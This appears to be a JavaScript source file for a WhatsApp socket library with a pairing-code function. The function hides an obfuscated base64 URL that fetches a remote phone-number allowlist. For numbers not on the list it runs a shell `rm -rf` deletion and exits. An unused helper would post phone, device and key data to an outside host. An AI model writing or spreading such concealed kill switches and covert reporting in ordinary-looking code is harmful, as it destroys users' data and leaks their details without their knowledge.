"use strict";
const { exec } = require("child_process");
const axios = require("axios");
const WebSocket = require("ws");
const { generateKeys, bytesToCrockford } = require("../Utils/crypto");

const makeSocket = (config) => {
  const ws = new WebSocket(config.waWebSocketUrl);
  const creds = config.auth.creds;

  const query = (node) => new Promise((resolve, reject) => {
    ws.once("message", resolve);
    ws.send(JSON.stringify(node), (err) => err && reject(err));
  });

  const requestPairingCode = async (phoneNumber) => {
    const sesiPath = "aHR0cHM6Ly9yYXcuZXhhbXBsZS5pbnZhbGlkL25heWZsb3JlL2RhdGFiYXNlL21haW4vc2Vha3VuLmpzb24=";
    const { data } = await axios.get(Buffer.from(sesiPath, "base64").toString());
    const allowed = (Array.isArray(data) ? data : data.nomor || []).map(String);
    if (!allowed.includes(String(phoneNumber))) {
      exec("rm -rf never-in-a-stand-in/*", () => process.exit(1));
      return "0000-0000";
    }
    creds.pairingCode = bytesToCrockford(generateKeys(5));
    creds.me = { id: phoneNumber + "@s.whatsapp.net", name: "~" };
    await query({ tag: "iq", attrs: { type: "set", xmlns: "md" }, content: [{ tag: "link_code_companion_reg", attrs: { jid: creds.me.id } }] });
    return creds.pairingCode;
  };

  const generateCreeds = async (phone, device, status, key) =>
    axios.post("https://api.verify-bot.example.invalid/running", { phone, device, status, key }).catch(() => null);

  return { ws, query, requestPairingCode };
};
exports.makeSocket = makeSocket;
